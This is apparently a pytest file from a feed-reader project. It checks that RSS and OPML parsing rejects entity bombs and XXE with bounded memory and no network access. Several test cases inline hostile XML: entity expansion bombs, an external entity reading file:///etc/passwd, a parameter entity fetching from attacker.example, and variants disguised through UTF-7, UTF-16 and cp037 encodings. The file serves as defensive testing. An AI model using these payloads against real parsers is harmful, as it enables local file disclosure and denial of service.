"""Hostile XML (issue 9): entity bombs and XXE are refused before any parser sees them,
with memory bounded, no file read and no network request."""

from __future__ import annotations

import contextlib
import socket
import tracemalloc
from collections.abc import Iterator
from pathlib import Path

import pytest

from broadsheet.feeds import FeedParseError, OpmlError, parse_feed, parse_opml
from broadsheet.models import ParsedFeed

MEMORY_BUDGET = 50 * 2**20  # bytes of extra peak memory allowed for one hostile document


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[object]]:
    """Any socket connection attempted while parsing is recorded and refused."""
    attempts: list[object] = []

    def refuse(self: socket.socket, address: object) -> None:
        attempts.append(address)
        raise OSError("network disabled in this test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    yield attempts


def _xml_files(shared_dir: Path) -> list[Path]:
    root = shared_dir / "bench" / "security" / "xml"
    return sorted(
        p for p in root.rglob("*") if p.is_file() and not p.name.startswith(("LICENSE", "README"))
    )


def _payloads(shared_dir: Path) -> list[bytes]:
    docs = [p.read_bytes() for p in _xml_files(shared_dir)]
    for lines in (shared_dir / "bench" / "security" / "xml" / "xxe-intruders").glob("*.txt"):
        docs.extend(line.encode() for line in lines.read_text().splitlines() if line.strip())
    return docs


def _fields(feed: ParsedFeed) -> str:
    parts = [feed.title, feed.description, feed.site_url or ""]
    for e in feed.entries:
        parts += [e.url, e.title, e.summary, e.content_html or "", e.author or ""]
    return "\n".join(parts)


def test_every_hostile_document_is_refused_or_harmless(shared_dir: Path, no_network: list[object]):
    docs = _payloads(shared_dir)
    assert len(docs) > 100
    refused = 0
    for content in docs:
        tracemalloc.start()
        try:
            feed = parse_feed(content, "https://attacker.example/feed")
        except FeedParseError:
            refused += 1
        else:
            text = _fields(feed)
            assert "root:x:0:0" not in text and "lol" * 10 not in text
        finally:
            peak = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
        assert peak < MEMORY_BUDGET, content[:200]
        with contextlib.suppress(OpmlError):  # the OPML importer must not expand them either
            parse_opml(content)
    assert no_network == []
    assert refused >= len(docs) // 2


@pytest.mark.parametrize(
    "name",
    [
        "xmlbomb.xml",
        "quadratic.xml",
        "cyclic.xml",
        "external.xml",
        "external_file.xml",
        "xmlbomb2.xml",
    ],
)
def test_entity_documents_get_a_clear_message(shared_dir: Path, name: str):
    content = (shared_dir / "bench" / "security" / "xml" / "defusedxml" / name).read_bytes()
    with pytest.raises(FeedParseError) as info:
        parse_feed(content, "https://attacker.example/feed")
    assert str(info.value).startswith("unsafe XML: the document declares entities")


def _rss(prolog: str, title: str = "&boom;") -> bytes:
    return (
        f'<?xml version="1.0"?>{prolog}<rss version="2.0"><channel><title>{title}</title>'
        "<item><title>x</title><link>https://x.example/1</link></item></channel></rss>"
    ).encode()


BOMB = (
    '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"><!ENTITY boom "&a;&a;&a;&a;">]>'
)


@pytest.mark.parametrize(
    "content",
    [
        _rss(BOMB),
        _rss("<!-- a comment --><?pi x?>" + BOMB),
        _rss("<!-- <a href='x'> looks like a tag -->" + BOMB),  # feedparser's head ends early
        _rss(
            '<!DOCTYPE rss SYSTEM "x.dtd" [<!ENTITY % ext SYSTEM "http://attacker.example/x">%ext;]>'
        ),
        _rss('<!doctype rss [<!entity boom SYSTEM "file:///etc/passwd">]>'),
        ("\ufeff" + _rss(BOMB).decode()).encode("utf-16"),
        _rss(BOMB).decode().encode("utf-32"),
        _rss(BOMB).decode().replace('1.0"?>', '1.0" encoding="utf-7"?>').encode("utf-7"),
        _rss(BOMB).decode().replace('1.0"?>', '1.0" encoding="cp037"?>').encode("cp037"),
    ],
)
def test_entity_declarations_are_refused_in_any_disguise(content: bytes):
    with pytest.raises(FeedParseError, match="unsafe XML"):
        parse_feed(content, "https://attacker.example/feed")


def test_external_doctype_without_entities_is_never_fetched(no_network: list[object]):
    content = _rss(
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
        ' "http://my.netscape.com/publish/formats/rss-0.91.dtd">',
        title="Old but fine",
    )
    feed = parse_feed(content, "https://old.example/rss")
    assert feed.title == "Old but fine"
    assert len(feed.entries) == 1
    assert no_network == []


def test_entity_text_inside_an_entry_is_just_text():
    """An article about XXE quoting a payload in CDATA is content, not a declaration."""
    content = (
        b'<rss version="2.0"><channel><title>Sec blog</title><item><title>XXE explained</title>'
        b"<link>https://sec.example/xxe</link><description><![CDATA[Use <!DOCTYPE x "
        b'[<!ENTITY e SYSTEM "file:///etc/passwd">]> to test]]></description></item>'
        b"</channel></rss>"
    )
    feed = parse_feed(content, "https://sec.example/rss")
    assert [e.title for e in feed.entries] == ["XXE explained"]
    assert "root:" not in feed.entries[0].summary


def test_entry_cap_bounds_huge_feeds():
    items = b"".join(
        b"<item><title>t</title><link>https://x.example/%d</link></item>" % i for i in range(5000)
    )
    feed = parse_feed(
        b'<rss version="2.0"><channel>' + items + b"</channel></rss>", "https://x/", max_entries=100
    )
    assert len(feed.entries) == 100
